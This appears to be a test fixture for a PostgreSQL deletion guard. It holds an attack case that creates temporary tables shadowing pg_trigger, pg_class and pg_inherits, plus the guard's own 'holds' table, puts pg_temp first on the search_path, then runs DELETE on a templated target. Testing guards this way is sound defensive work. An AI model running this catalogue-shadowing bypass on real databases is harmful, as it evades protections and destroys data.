-- Attack: temporary tables in front of the catalogue and the guard's tables, then DELETE
-- As: plain role, superuser

CREATE TEMP TABLE pg_trigger (LIKE pg_catalog.pg_trigger);
CREATE TEMP TABLE pg_class (LIKE pg_catalog.pg_class);
CREATE TEMP TABLE pg_inherits (LIKE pg_catalog.pg_inherits);
CREATE TEMP TABLE holds (id int);
SET search_path = pg_temp, pg_catalog;
DELETE FROM {target};
